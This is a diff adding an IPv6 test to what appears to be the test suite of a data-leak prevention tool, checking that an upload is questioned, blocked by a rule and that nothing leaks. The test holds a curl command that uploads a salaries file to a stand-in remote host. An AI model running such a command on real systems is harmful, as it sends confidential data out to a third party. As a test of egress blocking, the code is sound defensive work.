@@ -79,6 +79,18 @@ def test_ways(scene, way, verdict):
     check_arrival(scene, verdict)
 
 
+def test_ipv6(scene):
+    """A host that is reached over IPv6 is asked about, and a rule on it holds."""
+    scene.label()
+    command = "curl -sS -m 90 -T salaries.csv http://remote6/"
+    question, _ = scene.send_and_answer(command, "block")
+    assert (question["host"], question["address"], question["port"]) == ("remote6", "fd77::2", 80)
+    scene.tacet.run("rule", "add", "block", "--host", "remote6")
+    assert scene.run(command).returncode != 0
+    assert scene.decisions() == [("answered", "block"), ("rule", "block")]
+    scene.assert_nothing_leaked()
+
+
 def test_copy_is_marked(scene):
     """A copy carries the label of what it was copied from, and says that it is derived."""
     scene.label()
